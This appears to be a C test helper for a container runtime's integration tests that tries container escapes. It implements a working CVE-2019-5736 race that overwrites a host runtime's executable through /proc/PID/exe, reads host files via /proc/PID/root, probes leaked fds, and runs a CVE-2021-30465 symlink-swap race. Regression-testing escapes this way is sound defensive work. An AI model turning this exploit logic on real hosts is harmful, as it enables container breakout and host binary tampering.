/* attack: tries container escapes from inside a container, for tests/integration/escape.sh.
 *
 * Linked statically so that it runs in any root filesystem and so that its own
 * /proc/self/exe is this file: any other executable it sees in /proc is a process that
 * came from outside, such as a runtime joining the container.  Every command prints
 * "key=value" lines that the test parses; the exit status is 0 unless the command itself
 * could not run (bad arguments), so that a blocked attack is not mistaken for a crash.
 *
 *   attack race SECONDS MIN HOSTFILE SEENFILE
 *       CVE-2019-5736 and relatives.  For up to SECONDS, watches /proc for processes whose
 *       executable is not this one and, for each: opens /proc/PID/exe with O_PATH to
 *       reopen it for writing through /proc/self/fd as soon as the runtime no longer
 *       runs it (then writes over its first bytes); reads HOSTFILE (a host path)
 *       through /proc/PID/root; opens the directories among its fds.  Once MIN such
 *       processes were seen it creates SEENFILE (so the test stops starting runtimes) and
 *       stops when every exe it holds was dealt with.
 *   attack fds        the open fds: fds=0,1,2
 *   attack cwd        cwd=, getcwd=, and whether ".." from "/" and from the cwd stay in
 *                     the root: rootdotdot=same|different, up=root|outside
 *   attack ids        uid=, euid=, gid=, egid=, nnp= (NoNewPrivs), capeff=
 *   attack swap LINK TARGET1 TARGET2 SECONDS
 *       Run on the host (CVE-2021-30465): for SECONDS, points the symlink LINK at TARGET1,
 *       then TARGET2, and so on, each time atomically (a new link renamed over it), as a
 *       process sharing a volume with the container could while a runtime mounts there.
 *   attack sleep SECONDS
 *   attack true
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS    1024
#define MAX_HELD    16
#define MAX_TARGETS 8

static double now(void)
{
        struct timespec ts;

        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool same_file(const struct stat *a, const struct stat *b)
{
        return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* --- race ------------------------------------------------------------------------------ */

struct race {
        struct stat self;
        const char *hostfile;
        pid_t seen[MAX_PIDS];
        int n_seen;
        int denied;     /* foreign processes whose exe could not be opened at all */
        int exe_opened; /* O_PATH opens of a foreign exe */
        int written;    /* writes that reached a foreign exe */
        int write_denied;
        int root_read; /* HOSTFILE read through /proc/PID/root */
        int fd_dirs;   /* directories opened through /proc/PID/fd */
        int held[MAX_HELD];
        int n_held;
        char targets[MAX_TARGETS][PATH_MAX];
        int n_targets;
};

static bool already_seen(const struct race *r, pid_t pid)
{
        for (int i = 0; i < r->n_seen; i++)
                if (r->seen[i] == pid)
                        return true;
        return false;
}

static void add_target(struct race *r, const char *t)
{
        for (int i = 0; i < r->n_targets; i++)
                if (strcmp(r->targets[i], t) == 0)
                        return;
        if (r->n_targets < MAX_TARGETS)
                snprintf(r->targets[r->n_targets++], PATH_MAX, "%s", t);
}

/* Overwrites the first bytes of an executable opened for writing: enough to make a
 * changed checksum prove the escape. */
static void try_write(struct race *r, int fd)
{
        static const char marker[] = "NOOK-ATTACK";

        if (pwrite(fd, marker, sizeof(marker) - 1, 0) == (ssize_t)(sizeof(marker) - 1))
                r->written++;
        else
                r->write_denied++;
        close(fd);
}

static void try_host_file(struct race *r, pid_t pid)
{
        char path[PATH_MAX + 64], buf[64];
        int fd;

        snprintf(path, sizeof(path), "/proc/%d/root%s", (int)pid, r->hostfile);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        if (read(fd, buf, sizeof(buf)) > 0)
                r->root_read++;
        close(fd);
}

static void try_fds(struct race *r, pid_t pid)
{
        char path[64];
        DIR *d;
        struct dirent *e;

        snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
        d = opendir(path);
        if (d == NULL)
                return;
        while ((e = readdir(d)) != NULL) {
                char fdpath[PATH_MAX];
                struct stat st;
                int fd;

                if (e->d_name[0] == '.')
                        continue;
                snprintf(fdpath, sizeof(fdpath), "%s/%s", path, e->d_name);
                fd = open(fdpath, O_PATH | O_CLOEXEC);
                if (fd < 0)
                        continue;
                if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
                        r->fd_dirs++;
                close(fd);
        }
        closedir(d);
}

/* A process whose executable was not ours when scan() looked: everything a container can
 * try on it.  A running executable cannot be opened for writing (ETXTBSY), so its exe is
 * held with O_PATH for reopen_held(); and checked once more, since the process may have
 * executed the container's program meanwhile. */
static void attack_process(struct race *r, pid_t pid)
{
        char path[64], target[PATH_MAX];
        struct stat st;
        ssize_t n;
        int fd;

        try_host_file(r, pid);
        try_fds(r, pid);
        snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0) {
                if (errno == EACCES || errno == EPERM) {
                        r->denied++;
                        add_target(r, "?");
                }
                return;
        }
        if (fstat(fd, &st) == 0 && same_file(&st, &r->self)) {
                close(fd);
                return;
        }
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        n = readlink(path, target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = '\0';
        add_target(r, n > 0 ? target : "?");
        r->exe_opened++;
        if (r->n_held < MAX_HELD)
                r->held[r->n_held++] = fd;
        else
                close(fd);
}

static void scan(struct race *r)
{
        DIR *d = opendir("/proc");
        struct dirent *e;

        if (d == NULL)
                return;
        while ((e = readdir(d)) != NULL) {
                char path[64];
                struct stat st;
                char *end;
                long pid = strtol(e->d_name, &end, 10);

                if (*end != '\0' || pid <= 0 || pid == getpid() || already_seen(r, (pid_t)pid))
                        continue;
                snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
                if (stat(path, &st) < 0) {
                        /* Kernel threads and the dead have no exe; a denial is a sighting. */
                        if (errno != EACCES && errno != EPERM)
                                continue;
                } else if (same_file(&st, &r->self)) {
                        continue;
                }
                if (r->n_seen < MAX_PIDS)
                        r->seen[r->n_seen++] = (pid_t)pid;
                attack_process(r, (pid_t)pid);
        }
        closedir(d);
}

/* The CVE-2019-5736 step: a file being executed cannot be opened for writing (ETXTBSY),
 * so keep trying until the runtime has exited. */
static void reopen_held(struct race *r)
{
        for (int i = 0; i < r->n_held; i++) {
                char path[64];
                int fd;

                snprintf(path, sizeof(path), "/proc/self/fd/%d", r->held[i]);
                fd = open(path, O_WRONLY | O_CLOEXEC);
                if (fd < 0 && errno == ETXTBSY)
                        continue;
                if (fd >= 0)
                        try_write(r, fd);
                close(r->held[i]);
                r->held[i--] = r->held[--r->n_held];
        }
}

static int cmd_race(int argc, char **argv)
{
        struct race r = {0};
        double deadline;
        bool told = false;
        int min;

        if (argc != 4)
                return 2;
        deadline = now() + atof(argv[0]);
        min = atoi(argv[1]);
        r.hostfile = argv[2];
        if (stat("/proc/self/exe", &r.self) < 0) {
                printf("error=stat /proc/self/exe: %s\n", strerror(errno));
                return 1;
        }
        while (now() < deadline && !(r.n_seen >= min && r.n_held == 0)) {
                scan(&r);
                reopen_held(&r);
                if (r.n_seen >= min && !told) {
                        int fd = open(argv[3], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                        told = fd >= 0;
                        if (fd >= 0)
                                close(fd);
                }
        }
        printf("seen=%d\ndenied=%d\nexe_opened=%d\nwritten=%d\nwrite_denied=%d\nroot_read=%d\n"
               "fd_dirs=%d\nheld=%d\ntargets=",
               r.n_seen, r.denied, r.exe_opened, r.written, r.write_denied, r.root_read, r.fd_dirs,
               r.n_held);
        for (int i = 0; i < r.n_targets; i++)
                printf("%s%s", i ? "," : "", r.targets[i]);
        printf("\nresult=%s\n", r.written || r.root_read || r.fd_dirs ? "escaped" : "blocked");
        return 0;
}

/* --- fds, cwd, ids -------------------------------------------------------------------- */

static int cmd_fds(void)
{
        DIR *d = opendir("/proc/self/fd");
        struct dirent *e;
        int fds[256], n = 0;

        if (d == NULL) {
                printf("error=opendir /proc/self/fd: %s\n", strerror(errno));
                return 1;
        }
        while ((e = readdir(d)) != NULL && n < 256) {
                int fd = atoi(e->d_name);

                if (e->d_name[0] != '.' && fd != dirfd(d))
                        fds[n++] = fd;
        }
        closedir(d);
        /* readdir order is the kernel's, which is ascending for /proc/self/fd. */
        printf("fds=");
        for (int i = 0; i < n; i++)
                printf("%s%d", i ? "," : "", fds[i]);
        printf("\n");
        for (int i = 0; i < n; i++) {
                char path[64], target[PATH_MAX];
                ssize_t len;

                snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
                len = readlink(path, target, sizeof(target) - 1);
                target[len > 0 ? len : 0] = '\0';
                printf("fd%d=%s\n", fds[i], target);
        }
        return 0;
}

static int cmd_cwd(void)
{
        char buf[PATH_MAX];
        struct stat root, rootup, up;
        ssize_t n = readlink("/proc/self/cwd", buf, sizeof(buf) - 1);
        int fd;

        buf[n > 0 ? n : 0] = '\0';
        printf("cwd=%s\n", buf);
        if (getcwd(buf, sizeof(buf)) != NULL)
                printf("getcwd=%s\n", buf);
        else
                printf("getcwd=error %s\n", strerror(errno));
        if (stat("/", &root) < 0 || stat("/..", &rootup) < 0) {
                printf("error=stat /: %s\n", strerror(errno));
                return 1;
        }
        printf("rootdotdot=%s\n", same_file(&root, &rootup) ? "same" : "different");
        /* Far more ".." than any path has: from inside the root this ends at "/". */
        fd = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
        for (int i = 0; fd >= 0 && i < 64; i++) {
                int next = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
                close(fd);
                fd = next;
        }
        if (fd < 0 || fstat(fd, &up) < 0) {
                printf("error=walk up from the cwd: %s\n", strerror(errno));
                return 1;
        }
        close(fd);
        printf("up=%s\n", same_file(&up, &root) ? "root" : "outside");
        return 0;
}

static void print_status_field(const char *field, const char *key)
{
        char line[256];
        size_t len = strlen(field);
        FILE *f = fopen("/proc/self/status", "re");

        if (f == NULL)
                return;
        while (fgets(line, sizeof(line), f) != NULL) {
                if (strncmp(line, field, len) == 0 && line[len] == ':') {
                        char *v = line + len + 1;
                        v += strspn(v, " \t");
                        printf("%s=%s", key, v);
                        break;
                }
        }
        fclose(f);
}

static int cmd_ids(void)
{
        printf("uid=%u\neuid=%u\ngid=%u\negid=%u\n", (unsigned)getuid(), (unsigned)geteuid(),
               (unsigned)getgid(), (unsigned)getegid());
        print_status_field("NoNewPrivs", "nnp");
        print_status_field("CapEff", "capeff");
        return 0;
}

static int cmd_swap(int argc, char **argv)
{
        char tmp[PATH_MAX];
        double deadline;
        long swaps = 0;

        if (argc != 4)
                return 2;
        deadline = now() + atof(argv[3]);
        snprintf(tmp, sizeof(tmp), "%s.swap", argv[0]);
        while (now() < deadline) {
                unlink(tmp);
                if (symlink(argv[1 + swaps % 2], tmp) < 0 || rename(tmp, argv[0]) < 0) {
                        printf("error=swap %s: %s\n", argv[0], strerror(errno));
                        return 1;
                }
                swaps++;
        }
        printf("swaps=%ld\n", swaps);
        return 0;
}

int main(int argc, char **argv)
{
        const char *cmd = argc > 1 ? argv[1] : "";
        int r = 2;

        setvbuf(stdout, NULL, _IOLBF, 0);
        if (strcmp(cmd, "race") == 0)
                r = cmd_race(argc - 2, argv + 2);
        else if (strcmp(cmd, "fds") == 0)
                r = cmd_fds();
        else if (strcmp(cmd, "cwd") == 0)
                r = cmd_cwd();
        else if (strcmp(cmd, "ids") == 0)
                r = cmd_ids();
        else if (strcmp(cmd, "swap") == 0)
                r = cmd_swap(argc - 2, argv + 2);
        else if (strcmp(cmd, "sleep") == 0 && argc == 3)
                r = sleep((unsigned)atoi(argv[2])) == 0 ? 0 : 1;
        else if (strcmp(cmd, "true") == 0)
                r = 0;
        if (r == 2)
                fprintf(stderr,
                        "usage: attack race SECONDS MIN HOSTFILE SEENFILE | fds | cwd | ids | "
                        "swap LINK TARGET1 TARGET2 SECONDS | sleep SECONDS | true\n");
        return r;
}
